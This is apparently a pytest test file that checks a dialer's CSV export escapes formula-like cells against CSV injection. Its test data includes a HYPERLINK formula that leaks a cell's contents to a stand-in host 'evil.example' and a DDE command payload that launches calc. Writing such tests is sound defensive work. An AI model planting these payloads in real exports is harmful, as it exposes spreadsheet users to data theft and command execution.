"""The export is formula-safe by default (CWE-1236; OWASP "CSV Injection"): a value
someone outside the dialer wrote that starts with = + - @, a tab or a CR gets a ``'``
before it; the dialer's own columns (e164, from, ...) and a phone typed as E.164 stay
as they are; ``raw=True`` writes everything as stored. Through ``api.export`` on a
campaign imported from a real file, with an attempt carrying the call's free text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select

from dialer import api, clock
from dialer.store import db
from dialer.store.export import safe_cell, safe_phone
from dialer.store.models import Attempt, AttemptStatus, Contact

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2", "@SUM(A1)"]
EDGES = ["\tTAB", "\rCR", "plain", "", "a=b", "1-2"]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        *[(v, "'" + v) for v in HOSTILE],
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("plain", "plain"),
        ("", ""),
        ("a=b", "a=b"),
        ("'=x", "'=x"),  # already quoted: one quote is enough
    ],
)
def test_safe_cell(value: str, safe: str) -> None:
    assert safe_cell(value) == safe


@pytest.mark.parametrize(
    ("phone", "safe"),
    [
        ("+19195551212", "+19195551212"),  # E.164 as typed: readable, not a formula
        ("9195551212", "9195551212"),
        ("(919) 555-1212", "(919) 555-1212"),
        ("+1 919 555 1212", "'+1 919 555 1212"),
        ("+1+1", "'+1+1"),
        ("-9195551212", "'-9195551212"),
        ('=HYPERLINK("x")9195551212', '\'=HYPERLINK("x")9195551212'),
    ],
)
def test_safe_phone(phone: str, safe: str) -> None:
    assert safe_phone(phone) == safe


@pytest.fixture
def hostile_campaign(clean_db: None, tmp_path: Path) -> int:
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["phone", "note", "=cmd|' /C calc'!A0"])
        for n, value in enumerate(HOSTILE + EDGES):
            writer.writerow([f"+1919200{n:04d}", value, value])
        # The typed phone is the operator's too: phonenumbers finds a number in it.
        writer.writerow(['=HYPERLINK("x")9192009999', "bad phone", ""])
        writer.writerow(["-not a number", "x", ""])
    cid = api.create_campaign("formulas", "+19195550000", path)["id"]
    # An attempt on the first contact with the call's free text, as the events set it.
    with db.session_scope() as session:
        contact = session.scalars(
            select(Contact).where(Contact.campaign_id == cid, Contact.row == 1)
        ).one()
        attempt = Attempt(
            contact_id=contact.id,
            campaign_id=cid,
            number=1,
            status=AttemptStatus.ENDED,
            queued_at=clock.now(),
            call_id="c-=1+1",
            result="answered",
            cause="-CAUSE",
            response="=resp()",
            digits="@1",
            from_number="+19195550000",
            recording_url="=rec",
            transcript="+transcript",
        )
        session.add(attempt)
        session.flush()
        contact.last_attempt_id = attempt.id
        contact.attempts = 1
    return cid


def exported(cid: int, *, raw: bool = False) -> tuple[list[str], list[dict[str, str]]]:
    out = io.StringIO()
    api.export(cid, out, raw=raw)
    reader = csv.DictReader(io.StringIO(out.getvalue()))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def test_the_export_is_formula_safe_by_default(hostile_campaign: int) -> None:
    header, rows = exported(hostile_campaign)
    assert header[-2:] == ["note", "'=cmd|' /C calc'!A0"]
    notes = [r["note"] for r in rows[: len(HOSTILE + EDGES)]]
    assert notes == [
        *["'" + v for v in HOSTILE],
        "'\tTAB",
        "'\rCR",
        "plain",
        "",
        "a=b",
        "1-2",
    ]
    # The dialer's own numbers are untouched: a spreadsheet can read and sort them.
    assert [r["e164"] for r in rows[:3]] == ["+19192000000", "+19192000001", "+19192000002"]
    assert [r["phone"] for r in rows[:2]] == ["+19192000000", "+19192000001"]
    first = rows[0]
    assert (first["from"], first["result"]) == ("+19195550000", "answered")
    assert {k: first[k] for k in ("call_id", "cause", "response", "digits")} == {
        "call_id": "c-=1+1",  # starts with neither: as it is
        "cause": "'-CAUSE",
        "response": "'=resp()",
        "digits": "'@1",
    }
    assert (first["recording_url"], first["transcript"]) == ("'=rec", "'+transcript")
    bad_phone, minus = rows[-2], rows[-1]
    assert bad_phone["phone"] == '\'=HYPERLINK("x")9192009999'
    assert minus["phone"] == "'-not a number" and minus["status"] == "invalid"
    assert minus["e164"] == ""


def test_raw_writes_every_value_as_stored(hostile_campaign: int) -> None:
    header, rows = exported(hostile_campaign, raw=True)
    assert header[-2:] == ["note", "=cmd|' /C calc'!A0"]
    assert [r["note"] for r in rows[: len(HOSTILE + EDGES)]] == HOSTILE + EDGES
    assert [r["=cmd|' /C calc'!A0"] for r in rows[: len(HOSTILE)]] == HOSTILE
    first = rows[0]
    assert (first["cause"], first["response"], first["transcript"]) == (
        "-CAUSE",
        "=resp()",
        "+transcript",
    )
    assert rows[-2]["phone"] == '=HYPERLINK("x")9192009999'


def test_export_to_a_file_takes_raw_too(hostile_campaign: int, tmp_path: Path) -> None:
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert api.export(hostile_campaign, safe) == api.export(hostile_campaign, raw, raw=True)
    assert "'@SUM(A1)" in safe.read_text("utf-8")
    assert "'@SUM(A1)" not in raw.read_text("utf-8") and "@SUM(A1)" in raw.read_text("utf-8")
